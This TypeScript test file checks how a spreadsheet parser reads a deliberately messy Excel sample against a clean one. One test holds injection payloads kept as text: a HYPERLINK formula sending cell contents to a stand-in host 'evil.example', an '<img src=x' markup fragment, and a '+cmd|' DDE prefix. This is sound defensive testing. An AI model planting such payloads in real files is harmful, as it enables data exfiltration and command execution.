import { readFileSync } from "node:fs";
import { join } from "node:path";
import { sample } from "../../scripts/sample/index";
import { messySheets } from "../../scripts/sample/messy";
import { messyExpected } from "../../scripts/sample/messyExpected";
import { sampleWorkbook } from "../../scripts/sample/workbook";
import type { CellValue } from "../../src/contract/cells";
import type { Kpi } from "../../src/contract/Contract";
import { parseTables } from "../../src/contract/parseTables";
import { tables, type TableKey } from "../../src/contract/tables";
import { assets, rawTables, readWithSheetJs } from "./reading";

const expected = messyExpected();

const raw = readWithSheetJs("sample-messy.xlsx");
const messy = parseTables(raw);
const clean = parseTables(rawTables(sampleWorkbook()));
const leftOut = messy.problems.filter(({ severity, code }) => severity === "error" || code === "OBS012");

describe("the messy sample as committed", () => {
  test("holds the cells that the generator makes", () => {
    const made = messySheets().map(({ name, cells, hidden }) => ({ name, hidden: hidden ?? false, cells }));
    expect(raw.map(({ sheet, cells, hidden }) => ({ name: sheet, hidden, cells: trim(cells) }))).toEqual(
      made.map((sheet) => ({ ...sheet, cells: trim(sheet.cells) })),
    );
    const json: unknown = JSON.parse(readFileSync(join(assets, "sample-messy-expected.json"), "utf8"));
    expect(json).toEqual(expected);
  });
});

describe("reading the messy sample", () => {
  test("names every bad cell, and no other", () => {
    const cells = [...new Set(leftOut.map(({ cell }) => cell))];
    expect(cells.sort()).toEqual(expected.bad.map(({ cell }) => cell).sort());
  });

  test("says otherwise only that one sheet was recognised by its headers and one is hidden", () => {
    const rest = messy.problems.filter((problem) => !leftOut.includes(problem));
    expect(rest.map(({ code, cell }) => [code, cell])).toEqual([
      ["OBS016", "Wk!A2"],
      ["RIS017", "'Risk register'!A1"],
    ]);
  });

  test("keeps every good row of every table", () => {
    const kept = Object.fromEntries(
      messy.contract.reports
        .filter(({ table }) => table !== "observations")
        .map(({ table, rowsUsed }) => [tables[table].name, rowsUsed]),
    );
    expect(kept).toEqual(expected.kept);
    expect(messy.contract.facts).toEqual(clean.contract.facts);
  });

  test("reads the rows as the clean sample's, whatever their spelling", () => {
    const own = (row: object) => JSON.stringify({ ...row, source: null, series: null });
    const keys = Object.keys(clean.contract.rows) as (keyof typeof clean.contract.rows)[];
    for (const key of keys) {
      const known = new Set(clean.contract.rows[key].map(own));
      const strange = messy.contract.rows[key].filter((row) => !known.has(own(row)));
      // Rows whose text was made odd on purpose, and nothing else.
      const odd = { promises: 1, issues: 1, people: 1, recognition: 1 } as Partial<Record<TableKey, number>>;
      expect([key, strange.length]).toEqual([key, odd[key] ?? 0]);
    }
  });

  test("reads wide months as the long table's, to the six digits they were written with", () => {
    const cleanKpis = new Map(clean.contract.kpis.map((kpi) => [kpi.id, kpi]));
    const bad = new Set(["emergency 21", "fcr 3", "csat 17", "quality 8", "answered 21", "age 30"]);
    let compared = 0;
    for (const kpi of messy.contract.kpis) {
      const values = byPeriod(cleanKpis.get(kpi.id) as Kpi);
      for (const [period, value] of byPeriod(kpi)) {
        expect(Math.abs(value - (values.get(period) ?? NaN))).toBeLessThanOrEqual(1e-5 * Math.abs(value));
        compared++;
      }
    }
    const all = sample.observations.filter(({ value, numerator }) => value !== null || numerator !== null).length;
    // Not in the messy file: the value in hundredths, the impossible one, the duplicate and the wrong year.
    expect(compared).toBe(all - bad.size - 4);
  });

  test("keeps text that looks like a formula or markup as text", () => {
    const names = messy.contract.kpis.map(({ name }) => name);
    expect(names).toContain('=HYPERLINK("https://evil.example/?x="&A1,"Contacts per 100 customers")');
    expect(names).toContain("Wait for a web chat – “live” ☎ 客服");
    expect(messy.contract.rows.issues.some(({ text }) => text.startsWith("<img src=x"))).toBe(true);
    expect(messy.contract.rows.promises.some(({ text }) => text.startsWith("+cmd|"))).toBe(true);
  });

  test("leaves sheets that are none of ours alone", () => {
    const sheets = new Set(messy.contract.reports.map(({ sheet }) => sheet));
    expect(sheets).not.toContain("READ THIS FIRST");
    expect(sheets).not.toContain("zz_lookup");
    expect(sheets).toContain("Risk register");
  });
});

/** Without the blank cells at the end of each row. */
function trim(cells: readonly (readonly CellValue[])[]): CellValue[][] {
  return cells.map((row) => {
    let end = row.length;
    while (end > 0 && row[end - 1] === null) end--;
    return row.slice(0, end);
  });
}

function byPeriod({ series }: Kpi): Map<number, number> {
  const values = new Map<number, number>();
  series.value.forEach((value, i) => {
    if (!Number.isNaN(value)) values.set(series.period[i] ?? 0, value);
  });
  return values;
}
